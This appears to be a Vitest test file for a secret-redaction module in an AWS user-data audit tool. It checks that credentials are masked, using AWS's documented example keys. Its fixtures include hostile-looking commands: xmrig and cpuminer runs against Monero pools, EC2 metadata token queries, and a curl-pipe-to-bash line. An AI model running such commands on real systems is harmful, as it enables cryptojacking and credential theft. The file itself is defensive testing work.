import { describe, expect, it } from "vitest";
import { quoteLine, REDACTED, redactSecrets } from "../../lambda/core/redact.js";

// AWS's documented example credentials: realistic shapes, never real secrets.
const ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLE";
const SESSION_KEY_ID = "ASIAQNZGKIQY56JQ7WML";
const SECRET_KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";

const PEM = [
  "-----BEGIN RSA PRIVATE KEY-----",
  "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun",
  "VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK",
  "-----END RSA PRIVATE KEY-----",
].join("\n");

describe("redactSecrets: secrets never survive", () => {
  const cases: { name: string; input: string; secret: string; keeps?: string }[] = [
    { name: "access key id in prose", input: `key ${ACCESS_KEY_ID} leaked`, secret: ACCESS_KEY_ID, keeps: "leaked" },
    { name: "session key id", input: `export AWS_ACCESS_KEY_ID=${SESSION_KEY_ID}`, secret: SESSION_KEY_ID },
    {
      name: "aws_secret_access_key = value (credentials file)",
      input: `aws_secret_access_key = ${SECRET_KEY}`,
      secret: SECRET_KEY,
      keeps: "aws_secret_access_key = ",
    },
    {
      name: "export AWS_SECRET_ACCESS_KEY quoted",
      input: `export AWS_SECRET_ACCESS_KEY="${SECRET_KEY}"`,
      secret: SECRET_KEY,
      keeps: 'AWS_SECRET_ACCESS_KEY="[REDACTED]"',
    },
    {
      name: "aws configure set with a space separator",
      input: `aws configure set aws_secret_access_key ${SECRET_KEY} --profile prod`,
      secret: SECRET_KEY,
      keeps: "--profile prod",
    },
    { name: "standalone secret key shape", input: `echo ${SECRET_KEY} > /root/k`, secret: SECRET_KEY },
    { name: "password: value (YAML)", input: "  password: Tr0ub4dor&3", secret: "Tr0ub4dor" },
    {
      name: "DB_PASSWORD=value",
      input: "DB_PASSWORD=s3cr3t-prod-db ./start.sh",
      secret: "s3cr3t-prod-db",
      keeps: "./start.sh",
    },
    {
      name: "JSON password",
      input: '{"username": "app", "password": "hunter2hunter2"}',
      secret: "hunter2hunter2",
      keeps: '"username": "app"',
    },
    { name: "passwd=", input: "passwd=letmein99", secret: "letmein99" },
    {
      name: "token=",
      input: "curl https://example.com/hook?token=abcdef123456&x=1",
      secret: "abcdef123456",
      keeps: "&x=1",
    },
    {
      name: "GITHUB_TOKEN",
      input: "GITHUB_TOKEN=ghp_16C7e42F292c6912E7710c838347Ae178B4a git clone",
      secret: "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    },
    { name: "api_key", input: "api_key: 9f8e7d6c5b4a39281706", secret: "9f8e7d6c5b4a39281706" },
    { name: "x-api-key header", input: 'curl -H "x-api-key: k3y-v4lue-123" https://api', secret: "k3y-v4lue-123" },
    {
      name: "Authorization: Bearer",
      input: 'curl -H "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig" https://api.example.com',
      secret: "eyJhbGciOiJIUzI1NiJ9",
      keeps: "https://api.example.com",
    },
    { name: "Authorization: Basic", input: "Authorization: Basic dXNlcjpwYXNzd29yZA==", secret: "dXNlcjpwYXNzd29yZA" },
    {
      name: "PEM private key block",
      input: `cat > /root/.ssh/id_rsa <<EOF\n${PEM}\nEOF`,
      secret: "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun",
      keeps: "EOF",
    },
    {
      name: "PEM block cut off by truncation",
      input: "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ",
      secret: "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ",
    },
    {
      name: "URL credentials",
      input: "git clone https://deploy:Sup3rS3cret@git.example.com/repo.git",
      secret: "Sup3rS3cret",
      keeps: "git.example.com/repo.git",
    },
    {
      name: "long --password flag",
      input: "mysql --password=averyveryverylongpassword -h db",
      secret: "averyveryverylongpassword",
    },
    {
      name: "long -p pool password",
      input: "./xmrig -o pool.example.org:3333 -p ThisIsMyLongPoolSecret",
      secret: "ThisIsMyLongPoolSecret",
    },
  ];

  it.each(cases)("$name", ({ input, secret, keeps }) => {
    const redacted = redactSecrets(input);
    expect(redacted).not.toContain(secret);
    expect(redacted).toContain(REDACTED);
    if (keeps) expect(redacted).toContain(keeps);
  });

  it("redacts every secret in a realistic user data script and is idempotent", () => {
    const script = [
      "#!/bin/bash",
      `export AWS_ACCESS_KEY_ID=${ACCESS_KEY_ID}`,
      `export AWS_SECRET_ACCESS_KEY=${SECRET_KEY}`,
      "DB_PASSWORD='pr0d-db-pa55'",
      PEM,
      "git clone https://ci:glpat-xxxxxxxxxxxxxxxxxxxx@gitlab.example.com/app.git",
    ].join("\n");
    const once = redactSecrets(script);
    for (const secret of [ACCESS_KEY_ID, SECRET_KEY, "pr0d-db-pa55", "MIIEowIBAAK", "glpat-xxxx"]) {
      expect(once).not.toContain(secret);
    }
    expect(redactSecrets(once)).toBe(once);
  });
});

describe("redactSecrets: evidence and ordinary text stay readable", () => {
  const unchanged = [
    "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x --donate-level 1",
    "nohup ./cpuminer -a cryptonight -o stratum+tcp://xmr.nanopool.org:14444 -p worker1 &",
    "mkdir -p /opt/.cache/xmrig-6.21.0-linux-static-x64",
    'TOKEN=$(curl -s -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600")',
    'curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/instance-id',
    "DB_PASSWORD=$(aws secretsmanager get-secret-value --secret-id prod/db --query SecretString --output text)",
    "git checkout 3f786850e387550fdab836ed7e6dc881de23001b",
    "yum install -y docker && systemctl enable --now docker",
  ];
  it.each(unchanged)("keeps %s", (line) => {
    expect(redactSecrets(line)).toBe(line);
  });
});

describe("quoteLine", () => {
  it("redacts, trims and strips control characters", () => {
    expect(quoteLine(`\t  \u001b[1mexport AWS_ACCESS_KEY_ID=${ACCESS_KEY_ID}\u0000  `)).toBe(
      "[1mexport AWS_ACCESS_KEY_ID=[REDACTED]",
    );
  });

  it("keeps short lines whole and cuts long ones to the maximum", () => {
    expect(quoteLine("./xmrig --donate-level 1")).toBe("./xmrig --donate-level 1");
    const long = `echo ${"a".repeat(300)}`;
    const quoted = quoteLine(long, 80);
    expect(quoted).toHaveLength(80);
    expect(quoted.endsWith("...")).toBe(true);
  });

  it("keeps the focus visible when it sits past the cut", () => {
    const line = `curl -s ${"https://cdn.example.com/assets/".repeat(8)} | bash; ./x -o stratum+tcp://gulf.moneroocean.stream:10128`;
    const quoted = quoteLine(line, 100, "stratum+tcp://gulf.moneroocean.stream:10128");
    expect(quoted.length).toBeLessThanOrEqual(100);
    expect(quoted).toContain("stratum+tcp://gulf.moneroocean.stream:10128");
    expect(quoted.startsWith("...")).toBe(true);
  });

  it("never lets a secret through even when it is the focus", () => {
    const quoted = quoteLine(`${"x ".repeat(100)}password=hunter2hunter2`, 60, "password=hunter2hunter2");
    expect(quoted).not.toContain("hunter2");
  });
});

describe("redactSecrets on hostile input", () => {
  // User data is attacker-controlled: a pathological text must not stall the audit (ReDoS).
  it.each([
    ["dotted labels", "a.".repeat(50_000)],
    ["repeated secret names", "password".repeat(10_000)],
    ["repeated flags", "-p ".repeat(30_000)],
    ["unterminated URLs", "http://a:b".repeat(10_000)],
  ])("stays linear on %s", (_name, text) => {
    const started = performance.now();
    redactSecrets(text);
    quoteLine(text, 160, "password");
    expect(performance.now() - started).toBeLessThan(2_000);
  });
});
